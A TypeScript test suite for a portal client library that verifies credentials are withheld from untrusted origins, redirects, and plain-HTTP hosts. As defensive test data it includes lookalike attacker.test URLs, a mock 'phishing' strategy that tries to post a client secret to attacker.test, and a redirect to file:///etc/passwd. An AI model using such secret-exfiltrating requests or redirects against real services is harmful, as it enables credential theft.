/**
 * The credential boundary, hunted as a class over a scripted network: every target origin × every kind of
 * credential a request can want, every redirect status × request kind × destination, every clear-text host, the
 * `ssl: true` upgrade, and the envelope shapes seen on real portals. Each case checks what reached the wire, not
 * what the code meant to do. (The same rules against real servers, for every auth plugin and both faces:
 * `tooling/reliability/test/credentialBoundary*.test.ts`.)
 */
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Logger from "effect/Logger"
import * as Redacted from "effect/Redacted"
import * as References from "effect/References"
import * as Schema from "effect/Schema"
import * as Tracer from "effect/Tracer"
import type { AuthStrategy } from "../src/AuthStrategy.ts"
import { PortalSelf } from "../src/CommonSchema.ts"
import * as Portal from "../src/Portal.ts"
import type { PortalFailure } from "../src/PortalError.ts"
import type { Credentials, PortalRequest } from "../src/PortalRequest.ts"
import * as Transport from "../src/Transport.ts"
import * as ScriptedFetch from "../src/testing/ScriptedFetch.ts"
import { generateTokenStrategy, isGenerateToken, password } from "./helpers.ts"

const portalUrl = "https://portal.test/portal"
const portalToken = "PORTAL-TOKEN-boundary"
const serverToken = "SERVER-TOKEN-boundary"
const listed = "https://gis.test/server"

/** Every secret a request of these tests may carry; none may reach an origin outside the boundary. */
const secrets = [portalToken, serverToken, password]

const carriesSecret = (request: ScriptedFetch.Recorded): boolean => {
  const everything = [
    request.url.href,
    ...[...request.headers.entries()].map(([name, value]) => `${name}: ${value}`),
    ...Object.entries(request.body).map(([name, value]) => `${name}=${value}`),
  ].join("\n")
  return secrets.some((secret) => everything.includes(secret))
}

/** A portal (Enterprise) that lists `listed` as its server, and answers everything else with `{ ok, token }`. */
const enterprise = (extra: (request: ScriptedFetch.Recorded) => ScriptedFetch.Reply | undefined = () => undefined) =>
  ScriptedFetch.make((request) => {
    const answer = extra(request)
    if (answer !== undefined) return answer
    if (request.url.origin === "https://portal.test") {
      const route = ScriptedFetch.route(request)
      if (route === "generateToken" && request.body.serverUrl) return { json: { token: serverToken, expires: 9e12 } }
      if (route === "generateToken") return { json: { token: portalToken, expires: 9e12 } }
      if (route === "portals/self") return { json: { id: "0123456789ABCDEF", isPortal: true } }
      if (route === "portals/self/servers") return { json: { servers: [{ url: listed, adminUrl: `${listed}/` }] } }
    }
    return { json: { ok: true, token: ScriptedFetch.tokenOf(request) ?? null } }
  })

const layer = (scripted: ScriptedFetch.ScriptedFetch, options: Portal.Options = {}) =>
  Portal.layer({
    url: portalUrl,
    auth: generateTokenStrategy(),
    fetch: scripted.fetch,
    retry: { times: 2, base: 1, maxDelay: 2 },
    ...options,
  })

const send = (request: PortalRequest) => Effect.flatMap(Transport.Transport, (transport) => transport.json(request))

describe("credential boundary: which origins get credentials", () => {
  // Target URL → whether it is inside the boundary (the portal's origin, or under a server the portal lists).
  const targets: ReadonlyArray<readonly [string, boolean]> = [
    ["https://portal.test/portal/sharing/rest/content/items/x", true],
    ["https://portal.test/server/rest/services/S/FeatureServer", true],
    [`${listed}/rest/services/S/FeatureServer/0`, true],
    ["https://GIS.test/SERVER/rest/services/S/FeatureServer", true],
    ["https://gis.test:8443/server/rest/services/S/FeatureServer", false],
    ["http://gis.test/server/rest/services/S/FeatureServer", false],
    ["http://portal.test/portal/sharing/rest/content/items/x", false],
    ["https://evil.gis.test/server/rest/services/S/FeatureServer", false],
    ["https://gis.test.evil.test/server/rest/services/S/FeatureServer", false],
    ["https://gis.test/serverX/rest/services/S/FeatureServer", false],
    ["https://gis.test/other/rest/services/S/FeatureServer", false],
    ["https://gis.test@attacker.test/server/rest/services/S/FeatureServer", false],
    ["https://attacker.test/arcgis/rest/services/X/FeatureServer", false],
    ["https://attacker.test/server/rest/services/X/FeatureServer", false],
  ]
  const wants: ReadonlyArray<readonly [string, (url: string) => Credentials]> = [
    ["portal token", () => "portal"],
    ["server token", (url) => ({ server: url.replace(/\/rest\/.*$/, "") })],
  ]
  for (const [target, trusted] of targets) {
    for (const [name, want] of wants) {
      it.live(`${name} → ${target}: ${trusted ? "sent" : "withheld, and no token exchanged for it"}`, () =>
        Effect.gen(function* () {
          const scripted = enterprise()
          const result = yield* Effect.result(
            send({ operation: "Test.read", method: "GET", path: target, credentials: want(target) }).pipe(
              Effect.provide(layer(scripted)),
            ),
          )
          // A URL with user info (`https://gis.test@attacker.test/…`) is refused by fetch itself: nothing is sent.
          const answer = (result._tag === "Success" ? result.success : { token: null }) as { token: string | null }
          const outside = scripted.requests.filter((request) => {
            const url = request.url
            const inside =
              url.origin === "https://portal.test" ||
              (url.origin === "https://gis.test" && /^\/server(\/|$)/i.test(url.pathname))
            return !inside
          })
          if (trusted) expect(answer.token).not.toBeNull()
          else {
            expect(answer.token).toBeNull()
            expect(outside.filter(carriesSecret)).toEqual([])
            const exchanges = scripted.requests.filter((request) => isGenerateToken(request) && request.body.serverUrl)
            expect(exchanges).toEqual([])
          }
        }),
      )
    }
  }

  it.live("the decision is a span attribute and a debug log line, never the token", () =>
    Effect.gen(function* () {
      const spans: Array<Tracer.Span> = []
      const base = yield* Effect.tracer
      const recording = Tracer.make({
        span(options) {
          const span = base.span(options)
          spans.push(span)
          return span
        },
      })
      const lines: Array<string> = []
      const logger = Logger.make((options) => {
        lines.push(String(options.message))
      })
      const scripted = enterprise()
      yield* send({
        operation: "Layer.properties",
        method: "GET",
        path: "https://attacker.test/arcgis/rest/info",
      }).pipe(
        Effect.provide(layer(scripted)),
        Effect.withTracer(recording),
        Effect.provide(Logger.layer([logger])),
        Effect.provideService(References.MinimumLogLevel, "Debug"),
      )
      const span = spans.find((entry) => entry.name === "Layer.properties")
      expect(Object.fromEntries(span?.attributes ?? [])).toMatchObject({
        "auth.trust": "untrusted",
        "auth.credentials": "withheld",
      })
      expect(lines.some((line) => line.includes("Credentials withheld from https://attacker.test"))).toBe(true)
      expect(JSON.stringify([lines, spans.map((entry) => [...entry.attributes])])).not.toContain(portalToken)
    }),
  )

  it.live("trustedServers: a server the user lists gets the portal token (and only that one)", () =>
    Effect.gen(function* () {
      const scripted = enterprise()
      const options = { trustedServers: ["https://maps.partner.test/arcgis"] }
      const read = (path: string) =>
        send({ operation: "Test.read", method: "GET", path }).pipe(Effect.provide(layer(scripted, options)))
      expect(((yield* read("https://maps.partner.test/arcgis/rest/info")) as { token: string }).token).toBe(portalToken)
      expect(((yield* read("https://maps.partner.test/other/rest/info")) as { token: string | null }).token).toBeNull()
    }),
  )

  it.live("a trustedServers entry that is not an http(s) URL is refused", () =>
    Effect.gen(function* () {
      const error = yield* Effect.flip(
        send({ operation: "Test.read", method: "GET", path: "portals/self" }).pipe(
          Effect.provide(layer(enterprise(), { trustedServers: ["ftp://files.test"] })),
        ),
      )
      expect(error).toMatchObject({ _tag: "InvalidInput", field: "trustedServers" })
    }),
  )

  it.live("ArcGIS Online: the org host and the org's own path on its hosted-service hosts are trusted", () =>
    Effect.gen(function* () {
      const org = "AbCdEf0123456789"
      const scripted = ScriptedFetch.make((request) => {
        const route = ScriptedFetch.route(request)
        if (request.url.origin === "https://www.arcgis.test" && route === "generateToken") {
          return { json: { token: portalToken, expires: 9e12 } }
        }
        if (request.url.origin === "https://www.arcgis.test" && route === "portals/self") {
          return { json: { id: org, isPortal: false, urlKey: "myorg", customBaseUrl: "maps.arcgis.test" } }
        }
        if (request.url.origin === "https://www.arcgis.test" && route === "portals/self/servers") {
          return { json: { error: { code: 400, message: "Not supported.", details: [] } } }
        }
        if (request.url.origin === "https://www.arcgis.test" && route === `portals/${org}/urls`) {
          return {
            json: {
              urls: { features: { https: ["services1.arcgis.test"] }, tiles: { https: ["tiles1.arcgis.test"] } },
            },
          }
        }
        return { json: { token: ScriptedFetch.tokenOf(request) ?? null } }
      })
      const online = Portal.layer({
        url: "https://www.arcgis.test",
        auth: generateTokenStrategy(),
        fetch: scripted.fetch,
        retry: { times: 1, base: 1, maxDelay: 1 },
      })
      const tokenAt = (path: string) =>
        Effect.map(
          send({ operation: "Test.read", method: "GET", path }).pipe(Effect.provide(online)),
          (body) => (body as { token: string | null }).token,
        )
      expect(yield* tokenAt("https://myorg.maps.arcgis.test/sharing/rest/community/self")).toBe(portalToken)
      expect(yield* tokenAt(`https://services1.arcgis.test/${org}/arcgis/rest/services/X/FeatureServer`)).toBe(
        portalToken,
      )
      expect(yield* tokenAt(`https://tiles1.arcgis.test/tiles/x`)).toBeNull()
      expect(
        yield* tokenAt("https://services1.arcgis.test/SomeOtherOrg0000/arcgis/rest/services/X/FeatureServer"),
      ).toBeNull()
      expect(yield* tokenAt("https://otherorg.maps.arcgis.test/sharing/rest/community/self")).toBeNull()
    }),
  )

  it.live("a strategy that posts a secret to another origin is refused before anything is sent", () =>
    Effect.gen(function* () {
      const scripted = enterprise()
      const phishing: AuthStrategy = {
        name: "phishing",
        acquire: (context) =>
          Effect.map(
            context.send({
              operation: "Phish.token",
              method: "POST",
              path: "https://attacker.test/oauth2/token",
              params: { client_secret: Redacted.make(password) },
              credentials: "none",
            }),
            () => ({ token: Redacted.make(portalToken), expires: undefined }),
          ),
      }
      const error = yield* Effect.flip(
        send({ operation: "Test.read", method: "GET", path: "community/self" }).pipe(
          Effect.provide(layer(scripted, { auth: phishing })),
        ),
      )
      expect(error._tag).toBe("InvalidInput")
      expect(scripted.requests.filter((request) => request.url.origin === "https://attacker.test")).toEqual([])
    }),
  )
})

describe("credential boundary: redirects", () => {
  type Kind = "read (GET, header token)" | "write (POST, token)" | "sign-in (POST, password)"
  const kinds: ReadonlyArray<Kind> = ["read (GET, header token)", "write (POST, token)", "sign-in (POST, password)"]
  const statuses = [301, 302, 303, 307, 308] as const
  const destinations = ["same origin", "other origin"] as const

  for (const kind of kinds) {
    for (const status of statuses) {
      for (const destination of destinations) {
        const followed = destination === "same origin" || kind === "read (GET, header token)"
        it.live(`${kind}, ${status} to the ${destination}: ${followed ? "followed" : "refused (Redirect)"}`, () =>
          Effect.gen(function* () {
            const target =
              destination === "same origin" ? `${portalUrl}/sharing/rest/moved` : "https://attacker.test/moved"
            let redirected = false
            const scripted = enterprise((request) => {
              const route = ScriptedFetch.route(request)
              const first =
                (kind === "sign-in (POST, password)" && route === "generateToken" && !request.body.serverUrl) ||
                (kind !== "sign-in (POST, password)" && route === "content/items/x")
              if (first && !redirected && request.url.origin === "https://portal.test") {
                redirected = true
                return { status, headers: { location: target } }
              }
              if (route === "moved" && kind === "sign-in (POST, password)" && request.method === "POST") {
                return { json: { token: portalToken, expires: 9e12 } }
              }
              return undefined
            })
            const request: PortalRequest =
              kind === "write (POST, token)"
                ? { operation: "Test.write", method: "POST", path: "content/items/x", params: { title: "t" } }
                : { operation: "Test.read", method: "GET", path: "content/items/x" }
            const result = yield* Effect.result(send(request).pipe(Effect.provide(layer(scripted))))
            const outside = scripted.requests.filter((entry) => entry.url.origin !== "https://portal.test")
            // Whatever happened, nothing secret crossed to another origin.
            expect(outside.filter(carriesSecret)).toEqual([])
            if (followed) {
              expect(result._tag).toBe("Success")
              const moved = scripted.requests.filter((entry) => entry.url.pathname.endsWith("/moved"))
              expect(moved).toHaveLength(1)
              const resend = moved[0]!
              const original = kind === "read (GET, header token)" ? "GET" : "POST"
              const keepsMethod = status === 307 || status === 308 || original === "GET"
              if (destination === "same origin" && kind !== "sign-in (POST, password)") {
                expect(resend.method).toBe(keepsMethod ? original : "GET")
                expect(ScriptedFetch.tokenOf(resend)).toBe(portalToken)
              }
              if (destination === "same origin" && kind === "sign-in (POST, password)" && keepsMethod) {
                expect(resend.body.password).toBe(password)
              }
              if (destination === "other origin") {
                expect(resend.method).toBe("GET")
                expect(ScriptedFetch.tokenOf(resend)).toBeUndefined()
              }
            } else {
              expect(result._tag).toBe("Failure")
              const failure = (result as { failure: PortalFailure }).failure
              expect(failure).toMatchObject({ _tag: "TransportError", reason: "Redirect" })
              expect(String(failure)).not.toContain(portalToken)
              expect(String(failure)).not.toContain(password)
            }
          }),
        )
      }
    }
  }

  it.live("a redirect loop on the same origin stops after 5 hops with a Redirect error", () =>
    Effect.gen(function* () {
      const scripted = enterprise((request) =>
        ScriptedFetch.route(request).startsWith("loop")
          ? { status: 302, headers: { location: `${portalUrl}/sharing/rest/loop${scripted.requests.length}` } }
          : undefined,
      )
      const error = yield* Effect.flip(
        send({ operation: "Test.read", method: "GET", path: "loop" }).pipe(Effect.provide(layer(scripted))),
      )
      expect(error).toMatchObject({ _tag: "TransportError", reason: "Redirect" })
      expect(scripted.requests.filter((request) => ScriptedFetch.route(request).startsWith("loop"))).toHaveLength(6)
    }),
  )

  it.live("a redirect to a non-http scheme is refused", () =>
    Effect.gen(function* () {
      const scripted = enterprise((request) =>
        ScriptedFetch.route(request) === "content/items/x"
          ? { status: 302, headers: { location: "file:///etc/passwd" } }
          : undefined,
      )
      const error = yield* Effect.flip(
        send({ operation: "Test.read", method: "GET", path: "content/items/x" }).pipe(Effect.provide(layer(scripted))),
      )
      expect(error).toMatchObject({ _tag: "TransportError", reason: "Redirect" })
    }),
  )
})

describe("credential boundary: clear text", () => {
  const strategies: ReadonlyArray<readonly [string, AuthStrategy]> = [
    ["a password (generateToken)", generateTokenStrategy()],
    [
      "a static token",
      { name: "static", acquire: () => Effect.succeed({ token: Redacted.make(portalToken), expires: undefined }) },
    ],
  ]
  const hosts: ReadonlyArray<readonly [string, boolean]> = [
    ["http://gis.example.test/portal", false],
    ["http://10.0.0.5:7080/portal", false],
    ["http://[fe80::1]/portal", false],
    ["http://localhost:7080/portal", true],
    ["http://portal.localhost:7080/portal", true],
    ["http://127.0.0.1:7080/portal", true],
    ["http://127.5.6.7:7080/portal", true],
    ["http://[::1]:7080/portal", true],
  ]
  for (const [name, strategy] of strategies) {
    for (const [url, loopback] of hosts) {
      it.live(`${name} over ${url}: ${loopback ? "sent (loopback)" : "refused before sending"}`, () =>
        Effect.gen(function* () {
          const scripted = ScriptedFetch.make((request) =>
            ScriptedFetch.route(request) === "generateToken"
              ? { json: { token: portalToken, expires: 9e12 } }
              : { json: { ok: true } },
          )
          const result = yield* Effect.result(
            send({ operation: "Test.read", method: "GET", path: "community/self" }).pipe(
              Effect.provide(Portal.layer({ url, auth: strategy, fetch: scripted.fetch })),
            ),
          )
          if (loopback) {
            expect(result._tag).toBe("Success")
          } else {
            expect(result._tag).toBe("Failure")
            const failure = (result as { failure: PortalFailure }).failure
            expect(failure).toMatchObject({ _tag: "InvalidInput", field: "allowInsecureHttp" })
            expect(failure.message).toContain("allowInsecureHttp: true")
            expect(scripted.requests.filter(carriesSecret)).toEqual([])
          }
        }),
      )
    }
  }

  it.live("allowInsecureHttp: true sends, and warns once", () =>
    Effect.gen(function* () {
      const warnings: Array<string> = []
      const logger = Logger.make((options) => {
        if (options.logLevel === "Warn") warnings.push(String(options.message))
      })
      const scripted = ScriptedFetch.make((request) =>
        ScriptedFetch.route(request) === "generateToken"
          ? { json: { token: portalToken, expires: 9e12 } }
          : { json: { ok: true } },
      )
      yield* Effect.gen(function* () {
        const transport = yield* Transport.Transport
        for (let index = 0; index < 3; index++) {
          yield* transport.json({ operation: "Test.read", method: "GET", path: "community/self" })
        }
      }).pipe(
        Effect.provide(
          Portal.layer({
            url: "http://gis.example.test/portal",
            auth: generateTokenStrategy(),
            fetch: scripted.fetch,
            allowInsecureHttp: true,
          }),
        ),
        Effect.provide(Logger.layer([logger])),
      )
      expect(scripted.requests).toHaveLength(4)
      expect(warnings.filter((line) => line.includes("allowInsecureHttp"))).toHaveLength(1)
      expect(warnings.join("\n")).not.toContain(portalToken)
    }),
  )

  it.live("anonymous requests over http are not refused (nothing to protect)", () =>
    Effect.gen(function* () {
      const scripted = ScriptedFetch.make(() => ({ json: { ok: true } }))
      yield* send({ operation: "Test.read", method: "GET", path: "portals/self" }).pipe(
        Effect.provide(Portal.layer({ url: "http://gis.example.test/portal", fetch: scripted.fetch })),
      )
      expect(scripted.requests).toHaveLength(1)
    }),
  )
})

describe("credential boundary: ssl: true", () => {
  const sslPortal = () =>
    ScriptedFetch.make((request) =>
      ScriptedFetch.route(request) === "generateToken"
        ? { json: { token: portalToken, expires: 9e12, ssl: true } }
        : { json: { ok: true } },
    )

  it.live("after a token answer with ssl: true, credential-bearing requests go over https", () =>
    Effect.gen(function* () {
      const scripted = sslPortal()
      yield* Effect.gen(function* () {
        const transport = yield* Transport.Transport
        yield* transport.json({ operation: "Test.read", method: "GET", path: "community/self" })
        yield* transport.json({ operation: "Test.write", method: "POST", path: "content/items/x/update" })
      }).pipe(
        Effect.provide(
          Portal.layer({
            url: "http://gis.example.test/portal",
            auth: generateTokenStrategy(),
            fetch: scripted.fetch,
            allowInsecureHttp: true,
          }),
        ),
      )
      const [signIn, ...rest] = scripted.requests
      expect(signIn?.url.protocol).toBe("http:")
      expect(rest.map((request) => request.url.origin)).toEqual([
        "https://gis.example.test",
        "https://gis.example.test",
      ])
      expect(rest.every((request) => ScriptedFetch.tokenOf(request) === portalToken)).toBe(true)
    }),
  )

  it.live("…and an http URL with an explicit port, which cannot be upgraded, is refused", () =>
    Effect.gen(function* () {
      const scripted = sslPortal()
      const error = yield* Effect.flip(
        send({ operation: "Test.read", method: "GET", path: "community/self" }).pipe(
          Effect.provide(
            Portal.layer({ url: "http://127.0.0.1:7080/portal", auth: generateTokenStrategy(), fetch: scripted.fetch }),
          ),
        ),
      )
      expect(error).toMatchObject({ _tag: "InvalidInput", field: "url" })
      expect(error.message).toContain("ssl: true")
      expect(scripted.requests.filter((request) => ScriptedFetch.tokenOf(request) !== undefined)).toEqual([])
    }),
  )
})

describe("error envelopes seen on real portals", () => {
  const cases: ReadonlyArray<readonly [string, unknown, Record<string, unknown>]> = [
    ['{"status":"failure"}', { status: "failure" }, { _tag: "PortalError", reason: "Unknown" }],
    [
      '{"status":"failure","code":403,"message":…}',
      { status: "failure", code: 403, message: "No." },
      { _tag: "PortalError", reason: "Forbidden", code: 403, message: "No." },
    ],
    ['{"error":{"message":…}} (no code)', { error: { message: "Odd." } }, { _tag: "PortalError", reason: "Unknown" }],
    ['{"error":{}}', { error: {} }, { _tag: "PortalError", reason: "Unknown" }],
    ['{"error":{"code":"498"}}', { error: { code: "498", message: "Invalid token." } }, { _tag: "AuthError" }],
  ]
  for (const [name, body, expected] of cases) {
    it.live(`${name} is a typed error, sent once (not retried as a 500)`, () =>
      Effect.gen(function* () {
        const scripted = ScriptedFetch.make(() => ({ json: body }))
        const error = yield* Effect.flip(
          send({ operation: "Test.read", method: "GET", path: "content/items/x" }).pipe(
            Effect.provide(
              Portal.layer({ url: portalUrl, fetch: scripted.fetch, retry: { times: 3, base: 1, maxDelay: 2 } }),
            ),
          ),
        )
        expect(error).toMatchObject(expected)
        expect(scripted.requests).toHaveLength(1)
      }),
    )
  }

  for (const user of [{}, { fullName: "x" }, { username: null }, null]) {
    it.effect(`portals/self with user ${JSON.stringify(user)} decodes as anonymous`, () =>
      Effect.gen(function* () {
        const decoded = yield* Schema.decodeUnknownEffect(PortalSelf)({ id: "0123456789ABCDEF", user })
        expect(decoded.user?.username ?? undefined).toBeUndefined()
      }),
    )
  }
})
